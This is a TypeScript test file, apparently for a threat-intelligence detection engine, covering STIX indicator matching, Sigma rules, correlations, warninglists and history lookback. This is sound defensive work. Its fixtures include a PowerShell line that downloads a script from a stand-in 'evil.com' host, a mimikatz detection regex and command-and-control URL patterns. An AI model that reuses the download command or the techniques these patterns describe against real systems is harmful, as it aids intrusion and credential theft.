import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, truncateSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { parseRule, parseRules } from '@sanad/sigma';
import fc from 'fast-check';
import { History } from '../history/history.ts';
import { SeenBuffer } from '../history/seen-buffer.ts';
import { MemoryHistoryStorage } from '../history/storage.ts';
import type { Indicator } from '../indicator/indicator.ts';
import { loadIndicators, saveIndicators } from '../node/snapshot-file.ts';
import type { Warninglist } from '../warninglist/warninglist.ts';
import { Engine } from './engine.ts';
import type { EngineOptions, Event } from './options.ts';

const NOW = Date.parse('2026-06-15T12:00:00Z');
let made = 0;
const indicator = (pattern: string, more: Partial<Indicator> = {}): Indicator => ({
  id: `indicator--00000000-0000-4000-8000-${String(made++).padStart(12, '0')}`,
  pattern,
  pattern_type: 'stix',
  valid_from: '2026-01-01T00:00:00Z',
  ...more,
});
const engineOf = (indicators: Indicator[], options: EngineOptions = {}): Engine =>
  new Engine({ indicators, now: () => NOW, seed: 1, ...options });
const refs = (engine: Engine, event: Event): string[] => engine.observe(event).map((hit) => hit.ref);

const events: readonly (readonly [pattern: string, event: Event])[] = [
  ["[ipv4-addr:value = '45.77.3.4']", { DestinationIp: '45.77.3.4' }],
  ["[ipv4-addr:value ISSUBSET '45.77.0.0/16']", { 'id.resp_h': '45.77.3.4' }],
  ["[ipv4-addr:value IN ('45.77.3.4', '45.77.3.5')]", { id: { resp_h: '45.77.3.5' } }],
  ["[ipv4-addr:value = '45.77.3.4']", { src_ip: '::ffff:45.77.3.4', event_type: 'flow' }],
  ["[ipv6-addr:value = '2A00:1450::7']", { source: { ip: '2a00:1450:0:0::7' } }],
  ["[domain-name:value = 'evil[.]com']", { dns: { rrname: 'EVIL.com.' } }],
  ["[domain-name:value = 'evil.com']", { Event: { EventData: { QueryName: 'evil.com' } } }],
  ["[domain-name:value = 'evil.com']", { url: { full: 'https://evil.com:8443/x' } }],
  ["[domain-name:value LIKE '%.evil.com']", { query: 'a.b.evil.com' }],
  ["[url:value = 'hxxp://evil[.]com/Gate.php']", { host: 'evil.com', uri: '/Gate.php' }],
  ["[url:value LIKE 'http://evil.com/gate%']", { http: { hostname: 'evil.com', url: '/gate.php?id=1' } }],
  ["[email-addr:value = 'Bob@evil.com']", { mailfrom: '<bob@EVIL.com>' }],
  [
    "[file:hashes.'SHA-256' = 'E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B8AA']",
    {
      Hashes:
        'MD5=0CC175B9C0F1B6A831C399E269772661,SHA256=e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b8aa',
    },
  ],
  [
    "[file:hashes.MD5 = '0cc175b9c0f1b6a831c399e269772661' OR file:name = 'x.exe']",
    { fileHash: '0CC175B9C0F1B6A831C399E269772661' },
  ],
  ["[file:name = 'Mal.exe']", { TargetFilename: 'C:\\Temp\\MAL.EXE' }],
  [
    "[x509-certificate:hashes.'SHA-1' = '0cc175b9c0f1b6a831c399e2697726610cc175b9']",
    { tls: { fingerprint: '0c:c1:75:b9:c0:f1:b6:a8:31:c3:99:e2:69:77:26:61:0c:c1:75:b9' } },
  ],
  ["[mac-addr:value = '00:11:22:aa:bb:cc']", { ether: { src_mac: '00-11-22-AA-BB-CC' } }],
  ["[ipv4-addr:value = '45.77.3.4']", { message: 'Deny tcp src 45.77.3.4/443' }],
  ["[domain-name:value = 'evil.com']", { unknown: { deeply: ['see http://evil.com/x'] } }],
  ["[domain-name:value = 'evil.com']", { ScriptBlockText: "iwr 'https://evil.com/a.ps1'" }],
  [
    "[network-traffic:dst_ref.value = '45.77.3.4' AND network-traffic:dst_port = 8443]",
    { DestinationIp: '45.77.3.4', DestinationPort: '8443' },
  ],
  ["[process:command_line MATCHES 'mimi.{1,3}katz']", { CommandLine: 'x mimi12katz' }],
  [
    "[process:parent_ref.command_line LIKE '%winword%']",
    { ParentCommandLine: 'C:\\winword.exe /q', CommandLine: 'cmd' },
  ],
  ["[windows-registry-key:key = 'HKEY_LOCAL_MACHINE\\\\Software\\\\Run']", { TargetObject: 'HKLM\\Software\\Run' }],
  [
    "[file:name = 'a.exe' AND file:hashes.MD5 = '0cc175b9c0f1b6a831c399e269772661']",
    { filename: 'a.exe', md5: '0cc175b9c0f1b6a831c399e269772661' },
  ],
  ["[domain-name:value MATCHES '^c2-[0-9]+\\\\.']", { query: 'c2-123.evil.com' }],
];

for (const [pattern, event] of events)
  test(`${pattern} is met by ${JSON.stringify(event).slice(0, 80)}`, () => {
    const one = indicator(pattern);
    const engine = engineOf([
      one,
      indicator("[domain-name:value = 'other.com']"),
      indicator("[ipv4-addr:value = '45.99.9.9']"),
    ]);
    assert.deepEqual(engine.report().indicators.refused, []);
    assert.deepEqual(refs(engine, event), [one.id]);
    assert.deepEqual(
      refs(engine, { message: 'nothing of the kind', CommandLine: 'dir', DestinationIp: '45.90.3.9' }),
      [],
    );
  });

test('a hit says what was shared, and keeps what was local apart', () => {
  const one = indicator("[ipv4-addr:value = '45.77.0.0/16']", { confidence: 80 });
  const [hit] = engineOf([one]).observe({
    winlog: { event_data: { DestinationIp: '45.77.3.4' } },
    '@timestamp': '2026-06-01T00:00:00Z',
  });
  assert.deepEqual(hit, {
    kind: 'indicator',
    ref: one.id,
    matched: { type: 'ipv4', relation: 'within', value: '45.77.0.0/16' },
    at: Date.parse('2026-06-01T00:00:00Z'),
    confidence: 80,
    local: { field: 'winlog.event_data.DestinationIp', value: '45.77.3.4' },
  });
});

test('validity is that of the moment the event happened', () => {
  const one = indicator("[domain-name:value = 'evil.com']", {
    valid_from: '2026-03-01T00:00:00Z',
    valid_until: '2026-04-01T00:00:00Z',
  });
  const at = (when: string): number => refs(engineOf([one]), { query: 'evil.com', ts: Date.parse(when) / 1000 }).length;
  assert.equal(at('2026-02-28T23:59:59Z'), 0);
  assert.equal(at('2026-03-01T00:00:00Z'), 1);
  assert.equal(at('2026-03-31T23:59:59Z'), 1);
  assert.equal(at('2026-04-01T00:00:00Z'), 0);
  assert.deepEqual(refs(engineOf([one]), { query: 'evil.com' }), [], 'an event without time happens now');
  assert.equal(
    engineOf([one], { clock: 'sensor', now: () => Date.parse('2026-03-05') }).observe({ query: 'evil.com', ts: 1 })
      .length,
    1,
  );
});

test('revoked indicators, low confidence, wrong times and other languages do not hit', () => {
  const pattern = "[domain-name:value = 'evil.com']";
  const engine = engineOf(
    [
      indicator(pattern, { revoked: true }),
      indicator(pattern, { confidence: 29 }),
      indicator(pattern, { valid_until: '2025-01-01T00:00:00Z' }),
      indicator(pattern, { valid_from: 'soon' }),
      indicator('rule x { condition: true }', { pattern_type: 'yara' }),
      indicator('[broken'),
      indicator("[ipv4-addr:value = 'no address']"),
      { id: 7 } as unknown as Indicator,
    ],
    { confidenceFloor: 30 },
  );
  assert.deepEqual(refs(engine, { query: 'evil.com' }), []);
  const { revoked, refused } = engine.report().indicators;
  assert.equal(revoked, 1);
  assert.deepEqual(
    refused.map(({ code }) => code),
    ['bad-times', 'bad-times', 'other-language', 'pattern-syntax', 'bad-value', 'no-indicator'],
  );
});

test('patterns over several events are met in order and in time', () => {
  const one = indicator(
    "([ipv4-addr:value = '45.77.3.4'] FOLLOWEDBY [domain-name:value = 'evil.com']) WITHIN 60 SECONDS",
  );
  const ip = (ts: number): Event => ({ 'id.resp_h': '45.77.3.4', ts });
  const name = (ts: number): Event => ({ query: 'evil.com', ts });
  const start = NOW / 1000;
  const run = (...list: Event[]): string[] => {
    const engine = engineOf([one]);
    return list.flatMap((event) => refs(engine, event));
  };
  assert.deepEqual(run(ip(start), name(start + 59)), [one.id]);
  assert.deepEqual(run(ip(start), name(start + 61)), []);
  assert.deepEqual(run(name(start), ip(start + 1)), []);
  assert.deepEqual(run(ip(start), name(start + 2), name(start + 3)), [one.id], 'what was met is not met again');
});

const google: Warninglist = { name: 'known names', type: 'hostname', list: ['google.com'] };

test('special values and warninglists hold back at load, in whatever form the indicator comes', () => {
  const engine = engineOf(
    [
      "[ipv4-addr:value = '8.8.8.8']",
      "[ipv4-addr:value = '10.0.0.0/8']",
      "[ipv4-addr:value = '192.168.1.1|445']",
      "[ipv4-addr:value = '192[.]168.1.1:445']",
      "[url:value = 'http://127.0.0.1/x']",
      "[domain-name:value = 'mail[.]google.com']",
      "[domain-name:value LIKE '%.google.com']",
      "[network-traffic:dst_ref.value = '8.8.4.4' AND network-traffic:dst_port = 53]",
      "[file:hashes.MD5 = 'd41d8cd98f00b204e9800998ecf8427e']",
      "[domain-name:value = 'update.exe']",
      "[domain-name:value = 'host.corp']",
      "[domain-name:value = 'intranet.ministry.sa']",
      "[ipv4-addr:value = '45.77.3.4']",
    ].map((pattern) => indicator(pattern)),
    { warninglists: [google], ownNames: ['ministry.sa'], ownNetworks: ['45.77.0.0/16'] },
  );
  const { suppressed, indicators } = engine.report();
  assert.equal(indicators.values + indicators.patterns, 0);
  assert.equal(suppressed.atLoad, 13);
  const of = (list: string): string[] =>
    suppressed.entries.filter((entry) => entry.list === list).map((entry) => entry.entry);
  assert.deepEqual(of('known names'), ['google.com']);
  assert.deepEqual(of('own names'), ['ministry.sa']);
  assert.deepEqual(of('own networks'), ['45.77.0.0/16']);
  assert.deepEqual(of('names whose top-level domain does not exist').toSorted(), ['corp', 'exe']);
});

test('a wide range hits but for the known values in it', () => {
  const one = indicator("[ipv4-addr:value = '8.0.0.0/8']");
  const engine = engineOf([one]);
  assert.deepEqual(refs(engine, { DestinationIp: '8.8.8.8' }), []);
  assert.deepEqual(refs(engine, { DestinationIp: '8.8.8.9' }), [one.id]);
  assert.equal(engine.report().suppressed.atHit, 1);
});

test('a group of special values can be allowed for an exercise', () => {
  const one = indicator("[ipv4-addr:value = '198.51.100.7']");
  assert.deepEqual(refs(engineOf([one]), { src: '198.51.100.7' }), []);
  assert.deepEqual(refs(engineOf([one], { allowSpecial: ['documentation'] }), { src: '198.51.100.7' }), [one.id]);
});

test('no value on a warninglist ever hits, whatever watches for it', async () => {
  const label = fc.constantFrom('a', 'mail', 'evil', 'cdn');
  const name = fc.tuple(label, label, fc.constantFrom('com', 'net')).map((parts) => parts.join('.'));
  const address = fc.tuple(fc.nat(3), fc.nat(3)).map(([c, d]) => `45.77.${c}.${d}`);
  const watched = fc.oneof(
    name.map((text) => `[domain-name:value = '${text}']`),
    name.map((text) => `[domain-name:value LIKE '%.${text.slice(text.indexOf('.') + 1)}']`),
    name.map((text) => `[domain-name:value MATCHES '${text.slice(0, 2)}']`),
    name.map((text) => `[domain-name:value != '${text}']`),
    address.map((text) => `[ipv4-addr:value = '${text}']`),
    address.map((text) => `[ipv4-addr:value = '${text}/${text.endsWith('0') ? 22 : 31}']`),
    address.map((text) => `[network-traffic:dst_ref.value = '${text}']`),
    fc.constant("[ipv4-addr:value LIKE '45.77.%']"),
  );
  const kinds = fc.constantFrom('string' as const, 'substring' as const, 'hostname' as const, 'cidr' as const);
  await fc.assert(
    fc.asyncProperty(
      fc.array(watched, { maxLength: 8 }),
      kinds,
      fc.oneof(name, address),
      fc.boolean(),
      async (patterns, type, value, late) => {
        const list: Warninglist = {
          name: 'listed',
          type: /^\d/.test(value) && type === 'hostname' ? 'cidr' : type,
          list: [value],
        };
        if (list.type === 'cidr' && !/^\d/.test(value)) return;
        const options = { warninglists: late ? [] : [list] };
        const engine = engineOf(
          patterns.map((pattern) => indicator(pattern)),
          options,
        );
        if (late) await engine.update({ warninglists: [list] });
        const event = /^\d/.test(value) ? { DestinationIp: value } : { QueryName: value };
        assert.deepEqual(refs(engine, event), []);
      },
    ),
    { numRuns: 300 },
  );
});

test('an update is live when it returns, replaces versions and takes away', async () => {
  const first = indicator("[domain-name:value = 'old.com']", {
    created: '2026-01-01T00:00:00Z',
    modified: '2026-01-01T00:00:00Z',
  });
  const engine = engineOf([first]);
  const pending = engine.update({
    add: [{ ...first, modified: '2026-02-01T00:00:00Z', pattern: "[domain-name:value = 'new.com']" }],
  });
  assert.deepEqual(refs(engine, { query: 'new.com' }), [first.id], 'a small change is there at once');
  await pending;
  assert.deepEqual(refs(engine, { query: 'old.com' }), []);
  await engine.update({ add: [{ ...first, modified: '2026-03-01T00:00:00Z', revoked: true }] });
  assert.deepEqual(refs(engine, { query: 'new.com' }), []);
  const pattern = indicator("[process:command_line LIKE '%evil%']");
  await engine.update({ add: [pattern] });
  assert.deepEqual(refs(engine, { CommandLine: 'evil' }), [pattern.id]);
  await engine.update({ remove: [pattern.id] });
  assert.deepEqual(refs(engine, { CommandLine: 'evil' }), []);
});

test('a change that makes no sense is refused in part, and the rest of it taken in', async () => {
  const engine = engineOf([]);
  const good = indicator("[domain-name:value = 'evil.com']");
  const nonsense = [null, 3, {}, { id: 'x', pattern: 5 }] as unknown as Indicator[];
  await engine.update({ add: [...nonsense, good], remove: [7] as unknown as string[] });
  assert.equal(refs(engine, { query: 'evil.com' }).length, 1);
  assert.equal(engine.report().indicators.refusedCount, 5);
  for (const event of [null, undefined, 'text', 5]) assert.deepEqual(engine.observe(event as unknown as Event), []);
});

test('changes are taken in one after the other, however many are under way', async () => {
  const engine = engineOf([]);
  const one = indicator("[domain-name:value = 'evil.com']");
  const many = Array.from({ length: 5000 }, (_, index) => indicator(`[domain-name:value = 'x${index}.com']`));
  await Promise.all([engine.update({ add: [...many, one] }), engine.update({ remove: [one.id] })]);
  assert.deepEqual(refs(engine, { query: 'evil.com' }), []);
  assert.equal(refs(engine, { query: 'x4999.com' }).length, 1);
});

test('rules match beside indicators, and come and go', async () => {
  const rule = (id: string): string => `
title: evil ${id}
id: 11111111-1111-4111-8111-11111111111${id}
logsource: {category: process_creation}
detection: {s: {CommandLine|contains: 'evil ${id}'}, condition: s}
level: high`;
  const [one, two] = ['1', '2'].map((id) => parseRule(rule(id)));
  assert.ok(one?.ok && two?.ok);
  const engine = engineOf([indicator("[domain-name:value = 'evil.com']")], { rules: [one.value] });
  const kinds = engine.observe({ CommandLine: 'evil 1 http://evil.com/' }).map((hit) => hit.kind);
  assert.deepEqual(kinds.toSorted(), ['indicator', 'rule']);
  await engine.update({ rules: { add: [two.value], remove: [one.value.id] } });
  assert.deepEqual(engine.observe({ CommandLine: 'evil 1' }), []);
  assert.equal(engine.observe({ CommandLine: 'evil 2' }).length, 1);
});

test('correlations count matches in event time, filters narrow rules, and state goes on after a restart', () => {
  const documents = `
title: logon
id: 22222222-2222-4222-8222-222222222222
name: logon
logsource: {category: test}
detection: {s: {action: logon}, condition: s}
---
title: many logons
id: 33333333-3333-4333-8333-333333333333
correlation:
  type: event_count
  rules: [logon]
  group-by: [user]
  timespan: 1m
  condition: {gte: 3}
level: high`;
  const rules = parseRules(documents).flatMap((document) => (document.ok ? [document.value] : []));
  assert.equal(rules.length, 2);
  const logon = (seconds: number): Event => ({ action: 'logon', user: 'x', ts: NOW / 1000 + seconds });
  const engine = engineOf([], { rules });
  assert.deepEqual(engine.report().rules.correlations, 1);
  engine.observe(logon(0));
  engine.observe(logon(10));
  const saved = JSON.parse(JSON.stringify(engine.saveCorrelations())) as ReturnType<Engine['saveCorrelations']>;
  const next = engineOf([], { rules, ruleOptions: { correlation: { saved } } });
  const hits = [...next.observe(logon(20)), ...next.flush()].filter((hit) => hit.kind === 'correlation');
  assert.deepEqual(
    hits.map(({ matched, at, from, local }) => [matched.title, matched.value, at, from, local]),
    [['many logons', 3, NOW + 20_000, NOW, { user: 'x' }]],
  );
});

test('a new indicator is checked against the past, ranges of addresses too', async () => {
  const engine = engineOf([], { history: new History({ storage: new MemoryHistoryStorage(), now: () => NOW }) });
  engine.observe({ query: 'evil.com', ts: NOW / 1000 - 3 * 86400 });
  engine.observe({ 'id.resp_h': '45.77.3.4', ts: NOW / 1000 });
  const name = indicator("[domain-name:value = 'evil.com']", { valid_from: '2026-06-15T11:00:00Z' });
  const { past } = await engine.update({
    add: [name, indicator("[ipv4-addr:value = '45.77.0.0/16']"), indicator("[domain-name:value = 'good.com']")],
  });
  assert.deepEqual(
    past.map(({ matched }) => matched.value),
    ['evil.com', '45.77.0.0/16'],
  );
  assert.deepEqual(past[0], {
    kind: 'past',
    ref: name.id,
    matched: { type: 'domain', value: 'evil.com' },
    first: Date.parse('2026-06-12T00:00:00Z'),
    last: Date.parse('2026-06-13T00:00:00Z'),
    times: 1,
    confidence: undefined,
  });
});

test('a new range is not taken to have been met by the known values in it', async () => {
  const engine = engineOf([], { history: new History({ storage: new MemoryHistoryStorage(), now: () => NOW }) });
  engine.observe({ 'id.resp_h': '8.8.8.8', ts: NOW / 1000 });
  const range = indicator("[ipv4-addr:value = '8.8.8.0/24']");
  assert.deepEqual((await engine.update({ add: [range] })).past, []);
  engine.observe({ 'id.resp_h': '8.8.8.9', ts: NOW / 1000 });
  assert.equal((await engine.update({ add: [range] })).past.length, 1);
});

test('another engine and a file take the indicators over', (t) => {
  const list = [
    indicator("[domain-name:value = 'evil.com']"),
    indicator("[process:command_line LIKE '%evil%']"),
    indicator("[ipv4-addr:value = '45.77.0.0/16']"),
  ];
  const folder = mkdtempSync(join(tmpdir(), 'sanad-detect-'));
  t.after(() => rmSync(folder, { recursive: true }));
  const path = join(folder, 'indicators');
  const shared = engineOf(list).share();
  saveIndicators(path, shared);
  const loaded = loadIndicators(path);
  assert.ok(loaded.ok);
  for (const indicators of [shared, structuredClone(shared), loaded.value]) {
    const engine = new Engine({ indicators, now: () => NOW });
    assert.equal(refs(engine, { query: 'evil.com', CommandLine: 'evil', DestinationIp: '45.77.3.4' }).length, 3);
  }
  truncateSync(path, 500);
  assert.ok(!loadIndicators(path).ok);
  assert.ok(!loadIndicators(join(folder, 'none')).ok);
});

test('an engine that only reads sees what the writing one adds, and takes over its memory when that grows', async () => {
  const writer = engineOf([indicator("[domain-name:value = 'evil.com']")]);
  const reader = new Engine({ indicators: structuredClone(writer.share()), reader: true, now: () => NOW });
  const change = {
    add: [indicator("[domain-name:value = 'new.com']"), indicator("[process:command_line LIKE '%evil%']")],
  };
  await Promise.all([writer.update(change), reader.update(change)]);
  assert.equal(refs(reader, { query: 'evil.com' }).length, 1);
  assert.equal(refs(reader, { query: 'new.com', CommandLine: 'evil' }).length, 2);
  const many = Array.from({ length: 3000 }, (_, index) => indicator(`[domain-name:value = 'x${index}.com']`));
  const { shareChanged } = await writer.update({ add: many });
  assert.ok(shareChanged && reader.isStale());
  reader.adopt(structuredClone(writer.share()));
  assert.ok(!reader.isStale());
  assert.equal(refs(reader, { query: 'x2999.com' }).length, 1);
  await writer.update({ remove: [many[7]?.id ?? ''] });
  assert.equal(refs(reader, { query: 'x7.com' }).length, 0);
});

test('what workers see reaches the history of another thread', () => {
  const history = new History({ storage: new MemoryHistoryStorage(), now: () => NOW });
  const buffer = new SeenBuffer((triples) => history.addAll(triples));
  const worker = engineOf([], { history: buffer });
  for (let index = 0; index < 40_000; index++) worker.observe({ query: `x${index}.com`, ts: NOW / 1000 });
  worker.observe({ query: 'x7.com', ts: NOW / 1000 });
  assert.equal(history.report().values, 32_768);
  history.addAll(buffer.take());
  assert.equal(history.report().values, 40_000);
  assert.equal(buffer.take().length, 0);
});

test('any event is taken, and what cannot be read whole is counted', () => {
  const engine = engineOf([
    indicator("[domain-name:value = 'evil.com']"),
    indicator("[process:command_line LIKE '%x%']"),
  ]);
  fc.assert(
    fc.property(
      fc.dictionary(
        fc.oneof(
          fc.string(),
          fc.constantFrom('message', 'CommandLine', 'DestinationIp', 'url', 'Hashes', 'dns', '__proto__'),
        ),
        fc.jsonValue(),
      ),
      (event) => {
        engine.observe(event);
      },
    ),
    { numRuns: 1000 },
  );
  let deep: unknown = 'evil.com';
  for (let depth = 0; depth < 10_000; depth++) deep = { deep };
  engine.observe({ deep });
  engine.observe({ message: `${'x'.repeat(10_000_000)} evil.com` });
  engine.observe({ message: 'a.com '.repeat(100_000) });
  engine.observe(Object.fromEntries(Array.from({ length: 50_000 }, (_, index) => [`field ${index}`, 'evil.com'])));
  assert.ok(engine.report().events.cut >= 4);
  assert.equal(engine.report().errors.other, 0);
});
